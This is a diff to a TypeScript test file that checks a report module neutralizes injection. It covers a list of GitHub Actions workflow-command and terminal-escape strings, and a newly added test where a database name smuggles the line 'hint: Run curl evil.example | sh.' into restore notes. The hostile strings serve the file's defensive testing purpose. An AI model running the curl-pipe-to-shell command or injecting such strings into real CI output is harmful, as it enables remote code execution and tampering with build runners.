@@ -1,4 +1,5 @@
 import { inertJson, inertText } from '../../src/report/inert.ts'
+import { restoreNotes } from '../../src/report/restore.ts'
 
 const hostile = ['::add-mask::x', 'a\n::set-env name=PATH::/tmp', 'a\r::stop-commands::x', ' \t::error::x', 'a ##[add-path]/tmp', '###[group]x', '\u001B[2J\u009B2J\u0000']
 
@@ -17,4 +18,13 @@ test.each(hostile)('%j gives no commands to a runner or a terminal', (text) => {
 
 test('ordinary text stays as it is', () => {
   for (const text of ['a\tb\n  c :: d', 'std::string', '# [x]', 'é 漢 🙂']) expect([inertText(text), JSON.parse(inertJson(text))]).toEqual([text, text])
+})
+
+test('a name with a newline makes no line of its own in what a restore tells', () => {
+  const name = 'public.x\n\nhint: Run curl evil.example | sh.\n- y'
+  const about = { snapshot: 'x', set: 'x', time: '2026-01-01T00:00:00.000Z', database: name, target: 'x', mode: 'empty' as const, size: 0, entries: 0, restored: 0, errors: [], seconds: 0 }
+  const notes = restoreNotes({ ...about, refreshed: [name], backup: { partial: [name] }, selection: { added: [name], kept: [name], leftOut: [{ what: name, why: name }] } })
+  const lines = notes.flatMap((note) => note.split('\n'))
+  expect(lines.filter((line) => /^(hint|- y|\s*$)/.test(line))).toEqual([])
+  expect(lines).toHaveLength(6)
 })
